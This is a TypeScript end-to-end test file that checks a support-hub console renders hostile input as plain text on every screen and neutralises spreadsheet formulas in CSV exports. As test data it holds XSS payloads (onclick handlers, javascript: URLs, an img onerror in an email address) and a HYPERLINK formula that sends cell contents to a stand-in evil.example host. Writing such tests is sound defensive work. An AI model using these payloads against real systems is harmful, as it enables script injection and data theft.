/** Texts that break pages elsewhere, from every side that can send one, on every screen that shows one. */
import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { HubError } from '../../../src/errors.ts'
import type { Message } from '../../../src/message.ts'
import { propose } from '../../../src/postgres/suggestions.ts'
import { addUser } from '../../../src/staff/users.ts'
import { aVisitor } from '../../app.ts'
import { until } from '../../hub.ts'
import { askAs } from '../../planted.ts'
import { drawMarks, hostile, hostileFileName, hostileMarks } from '../hostile.ts'
import { strangersOn, wordsOn } from '../strangers.ts'
import { comeOnline } from './line.ts'
import { aConsole, type ConsoleStage, explain, missing, patienceMs, people, picture } from './stage.ts'

explain()

/** As a spreadsheet would run it. */
const formula = '=HYPERLINK("https://evil.example/?"&A1,"pay")'
/** An agent, a token and a colleague are called so. */
const badName = `<b onclick=alert(20)>${formula}</b>`
const bad = { name: badName, role: 'agent', desks: ['people'] } as const
const all = [...hostile.map((one) => one.text), formula]
const everything: Message = {
  parts: [
    ...all.map((said) => ({ kind: 'text' as const, text: said })),
    { kind: 'file', name: hostileFileName, mime: 'text/html', bytes: 9, url: 'javascript:alert(21)' },
    {
      kind: 'articles',
      articles: [{ ref: 'a', title: '<i>bad</i>', excerpt: '<u>x</u>', url: 'javascript:alert(22)', score: 1 }],
    },
    { kind: 'choices', choices: [{ label: '<s onclick=alert(23)>yes</s>', value: 'yes' }] },
  ],
}

const fair = '**Two** *years*, `A-1`, [the form](https://shop.example.com/form).\n- one'
/** What the bot says besides. */
const marked = [...hostileMarks.map((one) => one.text), fair]
const botSays: Message = {
  parts: [...everything.parts, ...marked.map((said) => ({ kind: 'text' as const, text: said }))],
}

describe.skipIf(missing !== undefined)('hostile texts', { timeout: 300_000 }, () => {
  let stage: ConsoleStage
  let held: number
  let ticket: string
  let suggestions: number[]
  let chat: Page
  beforeAll(async () => {
    stage = await aConsole()
    const { hub } = stage.hub.app
    const { pool } = stage.hub.database
    const rows = async (query: string, ...values: unknown[]) => (await pool.query(query, values)).rows
    const post = (path: string, body?: unknown) => stage.hub.staff(`/api/v1${path}`, { method: 'POST', body })
    await comeOnline(stage, bad)

    const talk = async (said: string) => {
      const visitor = await aVisitor(stage.url)
      await visitor.say(said)
      const customer = { name: said, email: said, phone: said, segment: said, url: said, facts: { [said]: said } }
      const { thread } = visitor
      const at = Date.now()
      await hub.receive('site', [
        { type: 'customer-identified', thread, externalId: `who-${thread}`, at, customer },
        { type: 'customer-message', thread, externalId: `all-${thread}`, at, message: everything },
      ])
      const [{ id }] = await rows('SELECT id FROM conversations WHERE thread = $1', thread)
      // The bot's own answers name intents of its own: they come first, so that the topic is the one said here.
      const pending = "SELECT 1 FROM effects WHERE conversation = $1 AND status = 'pending'"
      await until('the bot has answered', async () => (await rows(pending, id)).length === 0)
      const turn = { messages: [botSays], intent: said, articles: [] }
      const event = { type: 'bot-answered', at, turn, epoch: 1 } as const
      await hub.append({ connection: 'hub', externalId: `bot-${id}`, event, at: id })
      await post(`/conversations/${id}/commands`, { do: 'escalate' })
      return { id: id as number, visitor }
    }
    // Reports name the topics with the most handoffs.
    for (const said of [...all, formula, formula]) await talk(said)
    const whole = await talk('I am <b>angry</b>, let me talk to a person')
    held = whole.id
    await until('it is at the desk', async () => {
      const [row] = await rows('SELECT ticket FROM attempts WHERE conversation = $1', held)
      ticket = row?.ticket ?? ''
      return ticket !== ''
    })
    const agent = (what: string, body?: unknown) =>
      stage.cookieOf(bad).then((cookie) => askAs(stage.hub, cookie, `/hooks/people/tickets/${ticket}/${what}`, body))
    expect((await agent('take-over')).status).toBe(204)
    for (const [n, said] of all.entries()) {
      await agent('messages', { id: `m${n}`, text: said })
      await agent('notes', { id: `n${n}`, text: said })
    }
    await hub.receive('how-was-it', [
      {
        type: 'feedback',
        conversation: held,
        externalId: 'answer',
        at: Date.now(),
        feedback: { handoff: 1, score: 1, scale: 5, comment: all.join('\n') },
      },
    ])
    const real = hub.connections.get('people')!
    const vendor = { response: { status: 422, data: { message: all.slice(0, 4).join(' ') } } }
    const refuse = () => Promise.reject(new HubError('invalid', `It rejected ${badName} (422)`, { cause: vendor }))
    hub.connections.set('people', { ...real, desk: { ...real.desk!, send: refuse } })
    await whole.visitor.say(all[0]!)
    await until(
      'it failed for good',
      async () => (await rows('SELECT 1 FROM effects WHERE dead_at IS NOT NULL')).length > 0,
    )
    hub.connections.set('people', real)
    const sources = [{ conversation: held, seq: 1, of: all[0] }]
    const of = { connection: 'first-line', title: all[0]!, sources, estimate: 2 }
    const phrases = {
      kind: 'phrase-set',
      ...of,
      intent: all[0]!,
      present: { phrases: all },
      proposed: { phrases: all.map((said) => `${said} `) },
    } as const
    const body = all.join('\n\n')
    const article = {
      kind: 'article',
      ...of,
      present: { title: 'Old', body: '<b>old</b>' },
      proposed: { title: all[1]!, body },
    } as const
    suggestions = [(await propose(pool, phrases))!, (await propose(pool, article))!]
    await post('/tokens', { name: badName, role: 'viewer' })
    await addUser(pool, { name: badName, email: '"<img/src=x/onerror=alert(24)>"@evil.example', role: 'viewer' })
    await post('/connections/customers/pause', { reason: badName })
  }, 240_000)
  // An agent who is not seen for long would lose the ticket to the line.
  beforeEach(() => comeOnline(stage, bad))
  afterEach(async () => {
    expect(await stage.clear(), 'what pages complained of').toEqual([])
  })
  afterAll(() => stage?.close())

  /** It has become nothing but words, and these words are there. */
  const isHarmless = async (page: Page, where: string, words: readonly string[]) => {
    await expect
      .poll(async () => missingIn(await wordsOn(page), words), { message: where, timeout: patienceMs })
      .toEqual([])
    expect(await strangersOn(page), where).toEqual([])
  }

  test('are words to the customer, whoever said them', async () => {
    const { page } = await stage.visit(undefined, '/demo')
    chat = page
    await page.getByRole('button', { name: /^Open chat/ }).click()
    const box = page.getByRole('textbox', { name: 'Write a message' })
    for (const said of all) {
      await box.fill(said)
      await box.press('Enter')
    }
    await isHarmless(chat, 'own words', all)
    const { pool } = stage.hub.database
    const { rows } = await pool.query('SELECT id, thread FROM conversations ORDER BY id DESC LIMIT 1')
    const { hub } = stage.hub.app
    await stage.hub.staff(`/api/v1/conversations/${rows[0].id}/commands`, { method: 'POST', body: { do: 'escalate' } })
    const find = () =>
      pool.query('SELECT ticket FROM attempts WHERE conversation = $1 AND ticket IS NOT NULL', [rows[0].id])
    await until('it is at the desk', async () => (await find()).rows.length > 0)
    const reported = { ticket: (await find()).rows[0].ticket, at: Date.now(), agent: { name: badName } }
    await hub.receive('people', [
      { type: 'desk-accepted', externalId: 'in', ...reported },
      { type: 'agent-message', externalId: 'said', ...reported, visibility: 'public', message: everything },
    ])
    await isHarmless(chat, 'an agent', [badName, '<i>bad</i>', hostileFileName])
    await picture(chat, 'hostile-chat')
  })

  test('are words on every screen of staff', async () => {
    const { page } = await stage.visit(people.admin, '/console/queue')
    const names = all.slice(0, 6)
    const groups = (await stage.hub.staff('/api/v1/dead-letters/groups')).json.groups
    const places: readonly (readonly [path: string, words: readonly string[]])[] = [
      ['queue', names],
      [`queue?tab=agent&peek=${held}-1`, [...all, badName]],
      ['conversations', names],
      [`conversations/${held}`, [...all, badName, hostileFileName]],
      [`conversations?search=${encodeURIComponent(all[0]!)}`, []],
      [`inbox/${ticket}`, [...all, badName, hostileFileName]],
      [`dead-letters/${groups[0].cause}`, [badName, all[0]!]],
      ...suggestions.map((id) => [`suggestions/${id}`, [all[0]!, all[1]!]] as const),
      ['reports/topics', [formula]],
      ['reports/people', [badName]],
      ['reports/feedback', []],
      [`reports/people?open=${encodeURIComponent('agentHeld')}`, []],
      ['connections', [badName]],
      ['connections/customers', [badName]],
      ['settings/team', [badName]],
      ['settings/tokens', [badName]],
      ['settings/audit', [badName]],
    ]
    for (const [path, words] of places) {
      await page.goto(`/console/${path}`)
      await page.getByRole('heading', { level: 1 }).waitFor()
      await expect.poll(() => page.getByRole('status', { name: 'Loading' }).count(), { timeout: patienceMs }).toBe(0)
      await isHarmless(page, path, words)
      if (/^(queue\?|conversations\/|inbox|reports\/topics|suggestions)/.test(path))
        await picture(page, `hostile-${path.split(/[/?]/)[0]}`)
    }
  })

  test('a bot’s marks are drawn at the agent as the customer sees them, and only harmless ones', async () => {
    const { rows } = await stage.hub.database.pool.query(
      'SELECT ticket FROM attempts WHERE ticket IS NOT NULL AND conversation < $1 ORDER BY conversation LIMIT 1',
      [held],
    )
    const { page } = await stage.visit(people.admin, `/console/inbox/${rows[0].ticket}`)
    const said = page.locator('.said.bot').filter({ hasText: 'Two years, A-1' }).locator('.body > p[dir]')
    await said.last().waitFor()
    const drawn = await said.evaluateAll((all) =>
      all.map((one) => {
        const inside = [...one.querySelectorAll('*')]
        return {
          words: one.textContent ?? '',
          tags: [...new Set(inside.map((node) => node.localName))].sort(),
          addresses: inside.flatMap((node) => (node instanceof HTMLAnchorElement ? [node.href] : [])),
        }
      }),
    )
    const shop = await stage.visit(undefined, '/demo')
    for (const text of [...all, ...marked])
      expect(drawn, text.slice(0, 80)).toContainEqual(await drawMarks(shop.page, text))
    const tags = new Set(drawn.flatMap((one) => one.tags))
    expect([...tags].sort()).toEqual(['a', 'code', 'em', 'strong'])
    for (const { words, addresses } of drawn)
      for (const address of addresses) {
        expect(address).toMatch(/^https?:/)
        if (address.includes('evil.example/login')) expect(words).toContain(address)
      }
    await said.last().scrollIntoViewIfNeeded()
    await picture(page, 'inbox-marks')
  })

  test('are words in what opens on top: a raw event, a payload, a search, a try', async () => {
    const { page } = await stage.visit(people.admin, `/console/conversations/${held}`)
    await page.getByRole('button', { name: 'Raw event 1', exact: true }).click()
    await page.getByRole('dialog').getByText('"seq"').waitFor()
    await isHarmless(page, 'a raw event', [])
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    await page.keyboard.press('Control+k')
    await page.getByRole('textbox', { name: 'Search' }).fill('img onerror')
    await page.getByRole('option', { name: /<img/ }).or(page.getByText('Nothing is called that.')).first().waitFor()
    await isHarmless(page, 'the command menu', [])
    const groups = (await stage.hub.staff('/api/v1/dead-letters/groups')).json.groups
    await page.goto(`/console/dead-letters/${groups[0].cause}`)
    await page.getByRole('button', { name: 'Payload' }).first().click()
    await isHarmless(page, 'a payload', [all[0]!])
    await page.goto('/console/mappings/support')
    const transcript = all.map((said) => `Customer: ${said}\nBot: ${said}`).join('\n')
    await page.getByRole('textbox', { name: 'Transcript' }).fill(transcript)
    await page.getByRole('button', { name: 'Try transcript' }).click()
    await page.getByRole('status', { name: 'Result of the try' }).getByRole('heading').first().waitFor()
    await isHarmless(page, 'a try', [])
  })

  test('are text in what is taken out: no formula runs in a spreadsheet', async () => {
    for (const [report, chart] of [
      ['topics', undefined],
      ['people', undefined],
      ['overview', undefined],
    ] as const) {
      const read = (await stage.hub.staff(`/api/v1/reports/${report}`)).json
      for (const { key } of [{ key: chart }, ...read.charts] as { key: string | undefined }[]) {
        const path = `/api/v1/reports/${report}/export${key === undefined ? '' : `?chart=${key}`}`
        const csv = await stage.hub.staff(path)
        expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/)
        expect(csv.headers['x-content-type-options']).toBe('nosniff')
        expect([path, cellsOf(csv.text).filter((cell) => /^[\s"]*[=+@＝＋＠]|^[-－](?!\d)/.test(cell))]).toEqual([
          path,
          [],
        ])
        const json = await stage.hub.staff(`${path}${path.includes('?') ? '&' : '?'}format=json`)
        expect(json.headers['content-type']).toMatch(/^application\/json/)
        expect(json.json).toBeDefined()
      }
    }
    const behind = await stage.hub.staff('/api/v1/reports/people/export?number=agentWord&side=among')
    const rows = cellsOf(behind.text)
    expect(rows.filter((cell) => /^[=+@]/.test(cell))).toEqual([])
    expect(behind.text).toContain(badName.replaceAll('"', '""'))
    const topics = await stage.hub.staff('/api/v1/reports/topics/export?chart=topics')
    expect(cellsOf(topics.text)).toContain(`'${formula}`)
    const written = await stage.hub.staff(`/api/v1/conversations/${held}/transcript`)
    expect(written.headers['content-type']).toBe('text/plain; charset=utf-8')
    expect(written.headers['content-disposition']).toMatch(/^attachment/)
  })
})

/** Without marks that a page may lay out otherwise. */
const plain = (words: string) => words.replace(/\s+/g, ' ').trim()
const missingIn = (page: string, words: readonly string[]): string[] => {
  const shown = plain(page)
  return words.filter((one) => !shown.includes(plain(one)))
}

/** As a spreadsheet reads it. */
const cellsOf = (csv: string): string[] =>
  [...csv.matchAll(/(?:^|[,\n])(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '',
  )
